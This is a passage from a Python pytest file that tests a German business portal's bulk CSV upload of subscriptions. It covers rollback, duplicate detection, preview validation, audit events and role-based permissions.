    assert len(abos) == 25
    assert {abo.antrag_id for abo in abos} == {a.id for a in antraege_}
    assert {abo.status for abo in abos} == {AboStatus.AKTIV}
    assert all(abo.search_text for abo in abos)

    event = await AuditEvent.get(kind=AuditKind.UPLOAD_IMPORTED)
    assert (event.actor_id, event.customer_id, event.object_type, event.object_id, event.client) == (
        admin.id, contract.customer_id, 'upload', str(upload.id), '192.0.2.7')
    assert event.details['importiert'] == 25
    assert AuditKind.UPLOAD_IMPORTED.label == 'Massenupload importiert'


async def test_the_bulk_abo_has_the_fields_of_an_approved_antrag(
    db: str, admin: PortalUser, contract: Contract
) -> None:
    data = csv_file(people(1))
    preview = await checked_preview(admin, contract, data)
    await massenupload.import_upload(admin, contract.id, preview.upload_id)
    antrag = await Antrag.get(contract_id=contract.id)
    bulk = await Abo.get(antrag_id=antrag.id)
    await bulk.delete()
    single = await antraege.create_abo_from(antrag)
    fields = [name for name in Abo._meta.db_fields if name not in ('id', 'created_at')]
    assert {name: getattr(bulk, name) for name in fields} == {name: getattr(single, name) for name in fields}


async def test_a_failure_half_way_leaves_nothing_but_the_history(
    db: str, admin: PortalUser, contract: Contract, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workflow, 'BATCH_SIZE', 5)
    original = Abo.bulk_create.__func__  # type: ignore[attr-defined]  # mypy types a bound classmethod as a plain callable
    calls = []

    def failing(cls, objects, *args, **kwargs):
        calls.append(len(objects))
        if len(calls) == 2:
            raise RuntimeError('Datenbank weg')
        return original(cls, objects, *args, **kwargs)

    monkeypatch.setattr(Abo, 'bulk_create', classmethod(failing))
    data = csv_file(people(12))
    preview = await checked_preview(admin, contract, data)
    with pytest.raises(ServiceError) as caught:
        await massenupload.import_upload(admin, contract.id, preview.upload_id)
    assert str(caught.value) == massenupload.ABORTED
    assert calls == [5, 5]  # the first batch of Abos was written, inside the transaction
    assert await Antrag.all().count() == 0
    assert await Abo.all().count() == 0
    (upload,) = await Upload.all()
    assert (upload.result, upload.imported_count, upload.row_count, upload.message) == (
        UploadResult.ABGEBROCHEN, 0, 12, massenupload.ABORTED)
    assert not await AuditEvent.filter(kind=AuditKind.UPLOAD_IMPORTED).exists()
    refused = await AuditEvent.get(kind=AuditKind.UPLOAD_REFUSED)
    assert refused.details['ergebnis'] == 'abgebrochen'

    monkeypatch.setattr(Abo, 'bulk_create', classmethod(original))
    again = await massenupload.import_upload(admin, contract.id, preview.upload_id)  # nothing half-done
    assert again.result == UploadResult.IMPORTIERT
    assert await Abo.all().count() == 12


async def test_re_uploading_the_same_file_is_refused(db: str, admin: PortalUser, contract: Contract) -> None:
    data = csv_file(people(3))
    first = await checked_preview(admin, contract, data)
    imported = await massenupload.import_upload(admin, contract.id, first.upload_id)

    second = await checked_preview(admin, contract, data)
    reasons = faults_of(second)
    (file_fault,) = [fault for fault in second.faults if fault.row == 0]
    local = imported.created_at.astimezone(clock.BERLIN)
    assert file_fault.reason == (f'Diese Datei wurde bereits am {format_german_date(local.date())} um '
                                 f'{local:%H:%M} Uhr von Anna Dietrich importiert.')
    assert {(2, PERSON_COLUMN, EXISTING_PERSON), (3, PERSON_COLUMN, EXISTING_PERSON),
            (4, PERSON_COLUMN, EXISTING_PERSON)} <= reasons
    with pytest.raises(ServiceError, match='bereits am'):
        await massenupload.import_upload(admin, contract.id, first.upload_id)  # the old preview, too
    # the same persons in another file: refused as duplicates
    other = csv_file(people(3), delimiter=',')
    assert {fault.reason for fault in (await checked_preview(admin, contract, other)).faults} == {EXISTING_PERSON}
    assert await Abo.all().count() == 3
    results = [upload.result for upload in await massenupload.upload_history(admin, contract.id)]
    # the checked preview is the history's row (imported), the refused second import adds none
    assert results == [UploadResult.FEHLERHAFT, UploadResult.FEHLERHAFT, UploadResult.IMPORTIERT]


async def test_a_duplicate_arising_after_the_preview_stops_the_import(
    db: str, admin: PortalUser, contract: Contract
) -> None:
    rows = people(4)
    data = csv_file(rows)
    preview = await checked_preview(admin, contract, data)
    await existing(contract, rows[2], 'antrag-offen')  # a Self-Service application in the meantime
    with pytest.raises(ServiceError) as caught:
        await massenupload.import_upload(admin, contract.id, preview.upload_id)
    assert str(caught.value).startswith('1 Person der Datei hat inzwischen einen offenen Antrag')
    assert await Antrag.filter(source=AntragSource.MASSENUPLOAD).count() == 0
    assert await Abo.all().count() == 0
    (upload,) = await Upload.all()
    assert upload.result == UploadResult.FEHLERHAFT


async def test_only_a_checked_faultless_current_preview_of_this_contract_is_imported(
    db: str, admin: PortalUser, contract: Contract, company: Customer, pinned_today: Callable[[date], None]
) -> None:
    """The import names the server's Upload row by id: the rows are never sent back from the browser."""
    data = csv_file(people(2))
    raw = massenupload.read_upload(data, 'liste.csv', TODAY)
    with pytest.raises(ServiceError, match='gehört nicht zu diesem Vertrag'):  # never checked against the contract
        await massenupload.import_upload(admin, contract.id, raw.upload_id)
    preview = await checked_preview(admin, contract, data)
    assert preview.upload_id is not None
    stored = await Upload.get(id=preview.upload_id)
    assert stored.checked_rows is not None
    assert (stored.result, stored.checked_on, len(stored.checked_rows)) == (UploadResult.GEPRUEFT, TODAY, 2)
    other = await new_contract(company, 'V-2026-0002')
    with pytest.raises(ServiceError, match='gehört nicht zu diesem Vertrag'):
        await massenupload.import_upload(admin, other.id, preview.upload_id)
    faulty = await checked_preview(admin, contract, csv_file([person(5, PLZ='x')]))
    with pytest.raises(ServiceError, match='Fehler'):
        await massenupload.import_upload(admin, contract.id, faulty.upload_id)
    pinned_today(TODAY + timedelta(days=1))
    with pytest.raises(ServiceError, match='nicht mehr aktuell'):
        await massenupload.import_upload(admin, contract.id, preview.upload_id)
    assert await Antrag.all().count() == 0
    assert await Upload.filter(result=UploadResult.FEHLERHAFT).count() == 2
    assert (await Upload.get(id=preview.upload_id)).checked_rows is None  # a refused check keeps no rows


async def test_references_that_exist_already_are_drawn_again(
    db: str, admin: PortalUser, contract: Contract, monkeypatch: pytest.MonkeyPatch
) -> None:
    await existing(contract, person(90), 'antrag-genehmigt')
    taken = (await Antrag.get()).reference
    drawn: Iterator[str] = iter([taken, taken, 'A-2026-NEU001', 'A-2026-NEU002'])
    monkeypatch.setattr(workflow, 'new_reference', lambda today: next(drawn))
    data = csv_file(people(2))
    preview = await checked_preview(admin, contract, data)
    await massenupload.import_upload(admin, contract.id, preview.upload_id)
    assert set(await flat(Antrag.filter(source=AntragSource.MASSENUPLOAD).values_list('reference', flat=True))) == {
        'A-2026-NEU001', 'A-2026-NEU002'}


async def test_faulty_and_unreadable_files_are_kept_in_the_history(
    db: str, admin: PortalUser, contract: Contract
) -> None:
    faulty = await checked_preview(admin, contract, csv_file([person(0), person(1, PLZ='x')]))
    assert faulty.faulty_count == 1
    with pytest.raises(UploadError, match='keine gültige Excel-Datei'):
        await checked_preview(admin, contract, PNG, 'foto.xlsx')
    newest, older = await massenupload.upload_history(admin, contract.id)
    assert (newest.file_name, newest.result, newest.message) == ('foto.xlsx', UploadResult.FEHLERHAFT, NOT_XLSX)
    assert (older.row_count, older.valid_count, older.faulty_count, older.result, older.message) == (
        2, 1, 1, UploadResult.FEHLERHAFT, '1 fehlerhafte Zeile.')
    assert await AuditEvent.filter(kind=AuditKind.UPLOAD_REFUSED).count() == 2
    assert AuditKind.UPLOAD_REFUSED.label == 'Massenupload abgewiesen'


# --- permissions ----------------------------------------------------------------------------------------------------


async def test_readers_may_not_upload(db: str, admin: PortalUser, contract: Contract, company: Customer) -> None:
    reader = await make_user('lesen@fahrradmanufaktur-kassel.de', Role.READONLY, company, name='Lukas Brandt')
    data = csv_file(people(2))
    with pytest.raises(PermissionDenied):
        await checked_preview(reader, contract, data)
    preview = await checked_preview(admin, contract, data)
    with pytest.raises(PermissionDenied, match='Administratoren und die Sachbearbeitung'):
        await massenupload.import_upload(reader, contract.id, preview.upload_id)
    assert await Antrag.all().count() == 0
    assert await AuditEvent.filter(kind=AuditKind.UPLOAD_REFUSED, actor_id=reader.id).count() == 1
    # readers see the history: the admin's check, kept for its import
    assert [entry.result for entry in await massenupload.upload_history(reader, contract.id)] == [
        UploadResult.GEPRUEFT]


async def test_clerks_and_staff_may_upload(db: str, staff: PortalUser, contract: Contract, company: Customer) -> None:
    clerk = await make_user('sachbearbeitung@fahrradmanufaktur-kassel.de', Role.CLERK, company, name='Jonas Weber')
    for actor, rows in ((clerk, people(2)), (staff, people(2, start=10))):
        data = csv_file(rows)
        preview = await checked_preview(actor, contract, data)
        await massenupload.import_upload(actor, contract.id, preview.upload_id)
    assert await Abo.filter(contract_id=contract.id).count() == 4


async def test_another_companys_contract_is_not_found(
    db: str, admin: PortalUser, other_company: Customer
) -> None:
    foreign = await new_contract(other_company, 'V-2026-0777')
    data = csv_file(people(1))
    with pytest.raises(NotFound):
        await checked_preview(admin, foreign, data)
    with pytest.raises(NotFound):
        await massenupload.import_upload(admin, foreign.id, 1)
    with pytest.raises(NotFound):
        await massenupload.upload_history(admin, foreign.id)
    assert await Upload.all().count() == 0
